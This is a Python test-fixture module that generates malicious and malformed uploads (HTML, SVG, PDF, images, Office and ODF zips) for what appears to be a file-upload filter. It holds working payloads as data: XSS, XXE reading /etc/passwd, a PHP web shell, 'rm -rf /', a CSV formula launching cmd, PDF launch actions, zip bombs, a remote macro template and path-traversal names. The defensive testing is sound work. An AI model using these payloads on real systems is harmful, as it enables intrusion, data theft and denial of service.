"""Files that somebody might send who means harm, or whose telephone is broken: made, never kept.

`REFUSED` and `TAKEN` map a name of the case to (file name, content). What is taken must come out inert.
"""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_STORED, ZipFile

from PIL import Image, TiffImagePlugin

CONTENTS = "[Content_Types].xml"
OPENXML = "application/vnd.openxmlformats-officedocument"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XXE = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PDF_SCRIPT = PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
PDF_LAUNCH = PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>")
GPS = "30.0444"


def picture(form="JPEG", size=(64, 48), mode="RGB", **saved):
    """A sound picture with something in it."""
    out = BytesIO()
    image = Image.linear_gradient("L").resize(size).convert(mode)
    image.save(out, form, **saved)
    return out.getvalue()


def photograph(size=(64, 48), orientation=6):
    """As a telephone takes it: turned by a mark, with place, maker and a comment."""
    marks = Image.Exif()
    marks[0x0112], marks[0x010F], marks[0x9286] = orientation, "CanaryPhone", "canary comment"
    degrees = tuple(TiffImagePlugin.IFDRational(n, 1) for n in (30, 2, 40))
    marks.get_ifd(0x8825).update({1: "N", 2: degrees, 3: "E", 4: degrees, 29: "2026:01:01"})
    return picture(size=size, exif=marks.tobytes(), comment=b"canary place")


def chunk(kind, data):
    """A part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width, height, packed=b""):
    """A PNG that declares any size, whatever it holds."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", packed or zlib.compress(b"\x00" * 64))
    return b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"")


def jpeg_of(width, height):
    """A JPEG whose head declares another size than it holds."""
    data = bytearray(picture())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_stray(stray, times=5000):
    """A JPEG of many passes, with bytes between its parts that a decoder passes over."""
    data = jpeg_of_many_scans(times)
    return data[:20] + stray + data[20:]


def jpeg_with_film():
    """A photograph with a short film behind it, as telephones make them."""
    return picture(size=(600, 600)) + b"ftyp" + b"\xff\xda\0\x0c" * 3000


def jpeg_of_many_scans(times=5000, size=(512, 512)):
    """A progressive JPEG that repeats one of its passes thousands of times."""
    data = picture(progressive=True, size=size)
    first = data.index(b"\xff\xda")
    second = data.index(b"\xff\xda", first + 2)
    return data[:first] + data[first:second] * times + data[second:]


def jpeg_part(mark, content=b""):
    """A part of a JPEG."""
    return bytes((0xFF, mark)) + struct.pack(">H", len(content) + 2) + content


def full_of(part, inside, at):
    """10 MB: a picture with as many of one small part as fit in, `at` so many bytes from its beginning."""
    return inside[:at] + part * (10_000_000 // len(part)) + inside[at:]


def sealed(manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"):
    """A text that LibreOffice saved behind a password: nothing in the zip itself says so."""
    entry = '<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry>'
    return odt(("META-INF/manifest.xml", f'<m:manifest xmlns:m="{manifest}">{entry}</m:manifest>'))


def listing(parts):
    """A zip file of nothing but its list: so many lines, each of the same empty part."""
    line = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, *[0] * 7, 1, *[0] * 6) + b"a"
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0, 0, len(line) * parts, 30, 0)
    return b"PK\x03\x04" + b"\0" * 26 + line * parts + end


def zipped(parts, method=ZIP_DEFLATED):
    """A zip file of (name, content) parts."""
    out = BytesIO()
    with ZipFile(out, "w", method) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def docx(*more, main="wordprocessingml.document.main+xml"):
    """A small text document."""
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{OPENXML}.{main}"/></Types>'
    return zipped([("[Content_Types].xml", types), ("word/document.xml", "<w:document/>"), *more])


def xlsx(*more, main="spreadsheetml.sheet.main+xml"):
    """A small spreadsheet."""
    types = f'<Types><Override PartName="/xl/workbook.xml" ContentType="{OPENXML}.{main}"/></Types>'
    return zipped([("[Content_Types].xml", types), ("xl/workbook.xml", "<workbook/>"), *more])


def odt(*more):
    """A small text of LibreOffice."""
    mark = ("mimetype", "application/vnd.oasis.opendocument.text")
    return zipped([mark, ("content.xml", "<office/>"), *more], ZIP_STORED)


def behind_password(data):
    """A zip file whose parts are marked as encrypted, in their own heads and in the list."""
    out = bytearray(data)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(sign)
        while at >= 0:
            out[at + offset] |= 1
            at = out.find(sign, at + 4)
    return bytes(out)


def declaring(data, size):
    """A zip file that says of its first part in the list that it unpacks to `size` bytes."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]


def related(kind="attachedTemplate", form='"{}"', name="word/_rels/settings.xml.rels", pad="", sign="utf-8"):
    """A document with something elsewhere: by default its template, with macros, fetched when it is opened."""
    marks = {"Type": f"{RELATION}/{kind}", "Target": "https://example.org/x.dotm", "TargetMode": "External"}
    relation = " ".join(f"{mark}={form.format(value)}" for mark, value in marks.items())
    return docx((name, f"<Relationships>{pad}<Relationship {relation}/></Relationships>".encode(sign)))


def twice(data):
    """A zip file in which `word/documenT.xml` is called as another part is."""
    return data.replace(b"word/documenT.xml", b"word/document.xml")


def at_fault(data):
    """A zip file whose first part's packed bytes begin with nothing that can be unpacked."""
    at = 30 + data[26]
    return data[:at] + b"\xff" + data[at + 1 :]


def packed_elsewhere(data):
    """A zip file that says its first part lies 2^64 - 1 bytes further (APPNOTE 4.5.3)."""
    out, at = bytearray(data), data.index(b"PK\x01\x02")
    extra, name = struct.pack("<HHQ", 1, 8, 2**64 - 1), out[at + 28]
    out[at + 30 : at + 32], out[at + 42 : at + 46] = struct.pack("<H", len(extra)), b"\xff" * 4
    out[at + 46 + name : at + 46 + name] = extra
    end = out.rindex(b"PK\x05\x06")
    size = int.from_bytes(out[end + 12 : end + 16], "little") + len(extra)
    out[end + 12 : end + 16] = struct.pack("<I", size)
    return bytes(out)


def refused():
    """Every file that must not be kept."""
    bomb = ("word/media/image1.xml", b"\0" * 60_000_000)
    sheet = ("xl/worksheets/sheet1.xml", b"<row/>" * 10_000_000)
    return {
        "a page": ("page.html", HTML),
        "a page called a picture": ("page.jpg", HTML),
        "a page called a text": ("page.txt", HTML),
        "a page in a text after spaces": ("page.txt", b" \n" * 200 + HTML),
        "a page called a table": ("page.csv", b"a,b\n" + SCRIPT),
        "a page called a PDF": ("page.pdf", HTML),
        "a page without an ending": ("page", HTML),
        "a drawing with script": ("drawing.svg", SVG),
        "a drawing called a picture": ("drawing.png", SVG),
        "a drawing called a text": ("drawing.txt", SVG),
        "a drawing that reads files": ("xxe.svg", XXE),
        "a text that reads files": ("xxe.txt", XXE),
        "a drawing that grows": ("laughs.svg", LAUGHS),
        "a script": ("run.js", b"fetch('/EG-KN/admin/')"),
        "a script of a shell": ("run.txt", b"#!/bin/sh\nrm -rf /\n"),
        "a script of a server": ("shell.txt", b"<?php system($_GET['c']); ?>"),
        "a script called a picture": ("shell.jpg", b"<?php system($_GET['c']); ?>"),
        "a script of a server page": ("page.csv", b"<% Runtime.exec(x) %>"),
        "a batch file": ("run.bat", b"@echo off\r\ndel *.*\r\n"),
        "a program": ("run.exe", b"MZ\x90\x00" + b"\0" * 200),
        "a program called a picture": ("run.jpg", b"MZ\x90\x00" + b"\0" * 200),
        "a program with two endings": ("photo.jpg.exe", b"MZ\x90\x00" + b"\0" * 200),
        "a program of Linux": ("run", b"\x7fELF\x02\x01\x01" + b"\0" * 200),
        "a program of Java": ("Run.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 50),
        "a picture called a program": ("photo.exe", picture()),
        "a picture called a page": ("photo.html", picture()),
        "a picture with a hidden ending": ("photo\u202egpj.exe", picture()),
        "a picture called a PDF": ("photo.pdf", picture()),
        "a picture called a document": ("photo.docx", picture()),
        "a PDF called a picture": ("letter.jpg", PDF),
        "a PDF behind a page": ("letter.pdf", HTML + PDF),
        "a PDF behind a password": ("letter.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root")),
        "half a PDF": ("letter.pdf", PDF[:40]),
        "a virus called a picture": ("photo.jpg", EICAR),
        "a virus called what it is": ("virus.com", EICAR),
        "nothing": ("photo.jpg", b""),
        "nothing called a text": ("note.txt", b""),
        "half a photograph": ("photo.jpg", picture(size=(600, 600))[:900]),
        "the first bytes of a photograph": ("photo.jpg", b"\xff\xd8\xff"),
        "half a PNG": ("photo.png", picture("PNG", (600, 600))[:300]),
        "a PNG of letters": ("photo.png", b"\x89PNG\r\n\x1a\n" + b"A" * 500),
        "a GIF with script": ("photo.gif", b"GIF89a=1;alert(1)/*" + b"\0" * 40),
        "a GIF that is a script": ("photo.js", b"GIF89a=1;alert(1)//"),
        "a PNG of 100,000 by 100,000": ("photo.png", png_of(100_000, 100_000)),
        "a PNG of 2 thousand million": ("photo.png", png_of(2_000_000_000, 2)),
        "a PNG of zeros": ("photo.png", png_of(30_000, 30_000, zlib.compress(b"\0" * 9_000_000))),
        "a JPEG of 65,000 by 65,000": ("photo.jpg", jpeg_of(65_000, 65_000)),
        "a JPEG of many passes": ("photo.jpg", jpeg_of_many_scans()),
        "a JPEG of many passes behind a stray byte": ("photo.jpg", jpeg_with_stray(b"\0")),
        "a JPEG of many passes behind a mark without length": (
            "photo.jpg", jpeg_with_stray(b"\xff\xd0")
        ),
        "a JPEG of nothing but filling": ("photo.jpg", full_of(b"\xff", picture(), 2)),
        "a JPEG of bytes that are passed over": ("photo.jpg", full_of(b"\0", picture(), 2)),
        "a JPEG of empty parts": ("photo.jpg", full_of(jpeg_part(0xEF), picture(), 2)),
        "a JPEG of a million places": ("photo.jpg", full_of(jpeg_part(0xE1, b"Exif\0\0ab"), picture(), 2)),
        "a JPEG of empty parts behind its points": (
            "photo.jpg", full_of(jpeg_part(0xEF), picture(), -2)
        ),
        "a PNG of empty parts": ("photo.png", full_of(chunk(b"prVt", b""), picture("PNG"), 33)),
        "a PNG of empty parts behind its points": (
            "photo.png", full_of(chunk(b"prVt", b""), picture("PNG"), -12)
        ),
        "a GIF of comments": ("photo.gif", full_of(b"!\xfe\x01a\0", picture("GIF"), 13 + 3 * 256)),
        "a document that lists 200,000 parts": ("letter.docx", listing(200_000)),
        "a text behind a password": ("letter.odt", sealed()),
        "a WebP of one byte": ("photo.webp", b"RIFF\x04\0\0\0WEBPV"),
        "a plain zip file": ("papers.zip", zipped([("a.txt", "a")])),
        "a zip file called a picture": ("papers.jpg", zipped([("a.txt", "a")])),
        "a zip file called a document": ("papers.docx", zipped([("a.txt", "a")])),
        "a document called a spreadsheet": ("table.xlsx", docx()),
        "a program of Java called a document": ("run.docx", zipped([("META-INF/MANIFEST.MF", "Main: x")])),
        "a document that is a bomb": ("letter.docx", docx(bomb)),
        "a spreadsheet that is a bomb": ("table.xlsx", xlsx(sheet)),
        "a document that declares 4 GB": ("letter.docx", declaring(docx(), 4_000_000_000)),
        "a document of 3,000 parts": ("letter.docx", docx(*((f"word/{n}.xml", "") for n in range(3000)))),
        "a document with macros": ("letter.docx", docx(("word/vbaProject.bin", b"Attribut"))),
        "a document with macros by its name": ("letter.docm", docx(("word/vbaProject.bin", b"Attribut"))),
        "a spreadsheet with old macros": ("table.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<x/>"))),
        "a spreadsheet with controls": ("table.xlsx", xlsx(("xl/activeX/activeX1.bin", b"x"))),
        "a document of macros": ("letter.docx", docx(main="document.macroEnabled.main+xml")),
        "a text with macros": ("letter.odt", odt(("Basic/Standard/x.xml", "<x/>"))),
        "a document with a foreign template": ("letter.docx", related()),
        "a foreign template between other marks": ("letter.docx", related(form="'{}'")),
        "a foreign template in two-byte signs": ("letter.docx", related(sign="utf-16")),
        "a foreign template far down": ("letter.docx", related(pad=" " * 300_000)),
        "a foreign template behind a million spaces": ("letter.docx", related(pad=" " * 1_100_000)),
        "a foreign template of settings with another name": (
            "letter.docx", related(name="word/_rels/other.xml.rels")
        ),
        "a foreign template said twice": (
            "letter.docx", related(pad='<Relationship Type="x/hyperlink" TargetMode="External"/>')
        ),
        "a document with a foreign object": (
            "letter.docx", related("oleObject", name="word/_rels/document.xml.rels")
        ),
        "a document whose relations are no XML": ("letter.docx", docx(("_rels/.rels", "<Relationships>"))),
        "a document whose relations grow": ("letter.docx", docx(("_rels/.rels", LAUGHS))),
        "a document that names its kind in a remark": (
            "letter.docx", docx(main='x"/><!-- wordprocessingml.document.main+xml --><Other a="')
        ),
        "a document that cannot be unpacked": ("letter.docx", at_fault(docx())),
        "a document packed otherwise": ("letter.docx", zipped([(CONTENTS, "<Types/>")], ZIP_BZIP2)),
        "a document that lies elsewhere": ("letter.docx", packed_elsewhere(docx())),
        "a document with a part twice": ("letter.docx", twice(docx(("word/documenT.xml", "")))),
        "a text without parts": ("letter.odt", b"PK\x03\x04" + zipped([])),
        "a document that climbs": ("letter.docx", docx(("../../etc/passwd", "x"))),
        "a document behind a password": ("letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "an old document": ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "a document with parts behind a password": ("letter.docx", behind_password(docx())),
        "half a document": ("letter.docx", docx()[:60]),
        "a text of bytes": ("note.txt", bytes(range(256))),
        "a text of two-byte signs": ("note.txt", "<script>".encode("utf-16")),
        "a sound": ("voice.mp3", b"ID3\x03\0\0\0\0\0\x21" + b"\0" * 100),
        "an archive": ("papers.tar.gz", b"\x1f\x8b\x08" + b"\0" * 50),
        "a link of Windows": ("letter.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
    }  # fmt: skip


def taken():
    """Every strange file that is kept, and comes out inert under an honest name."""
    return {
        "a photograph with its place": ("IMG_2026.jpg", photograph()),
        "a photograph with a page behind it": ("photo.jpg", picture() + HTML),
        "a photograph with a program of Java behind it": ("photo.jpg", picture() + zipped([("a.class", "x")])),
        "a photograph with script in its comment": ("photo.jpg", picture(comment=SCRIPT)),
        "a GIF with script behind it": ("photo.gif", picture("GIF", mode="P") + SCRIPT),
        "a PNG with a page in its text": ("photo.png", picture("PNG").replace(b"IEND", b"IEND") + HTML),
        "a photograph with a film behind it": ("photo.jpg", jpeg_with_film()),
        "a PNG called a JPEG": ("photo.jpg", picture("PNG")),
        "a photograph without an ending": ("photo", picture()),
        "a PDF with script": ("letter.pdf", PDF_SCRIPT),
        "a PDF that starts a program": ("letter.pdf", PDF_LAUNCH),
        "a name that turns round": ("\u202egpj.photo.jpg", picture()),
        "a name that climbs": ("../../../etc/passwd.jpg", picture()),
        "a name that climbs in Windows": ("..\\..\\boot.jpg", picture()),
        "a name with NUL": ("photo\0.php\0.jpg", picture()),
        "a name of 300 signs": ("ش" * 300 + ".jpg", picture()),
        "a name of nothing but dots": ("....jpg", picture()),
        "a name that Windows keeps for itself": ("CON.jpg", picture()),
        "a name with markup": ("<img src=x onerror=alert(1)>.jpg", picture()),
        "a name with a line break": ("photo\r\nSet-Cookie: a=b.jpg", picture()),
        "a name in Arabic": ("شكوى المياه.jpg", picture()),
        "a document with links": (
            "letter.docx", related("hyperlink", name="word/_rels/document.xml.rels")
        ),
        "a formula in a table": ("table.csv", b"=cmd|' /C calc'!A0,1\n"),
    }  # fmt: skip


def heavy():
    """The largest of what is taken, or nearly: by name a function that gives (file name, content)."""
    return {
        "a photograph of 108 million points": lambda: ("a.jpg", picture(size=(12000, 9000), mode="RGB")),
        "a photograph just too small to be halved": lambda: ("a.jpg", picture(size=(3990, 4000))),
        "a photograph in four colours": lambda: ("a.jpg", picture(size=(3990, 4000), mode="CMYK")),
        "a photograph in passes": lambda: (
            "a.jpg",
            picture(size=(3990, 4000), progressive=True, subsampling=0),
        ),
        "a turned photograph": lambda: ("a.jpg", photograph(size=(3990, 4000))),
        "a photograph in 100 passes": lambda: ("a.jpg", jpeg_of_many_scans(90, (3990, 4000))),
        "a PNG with clear parts": lambda: ("a.png", picture("PNG", (3000, 3990), "RGBA")),
        "a PNG of few bytes": lambda: ("a.png", picture("PNG", (3000, 3990), "1")),
        "a WebP": lambda: ("a.webp", picture("WEBP", (2440, 2450), "RGBA", lossless=True, method=0)),
        "a GIF": lambda: ("a.gif", picture("GIF", (2800, 2850), "P")),
        "a document of 10 MB": lambda: ("a.docx", docx(("word/media/i.bin", b"\0" * 900_000))),
        "a document of relations": lambda: (
            "a.docx",
            docx(("_rels/.rels", "<Relationships>" + "<a/>" * 260_000 + "</Relationships>")),
        ),
        "a text of 10 MB": lambda: ("a.txt", b"<" * 10_000_000),
        "a PDF of 10 MB": lambda: ("a.pdf", PDF[:-6] + b"%" * 10_000_000 + b"\n%%EOF"),
    }
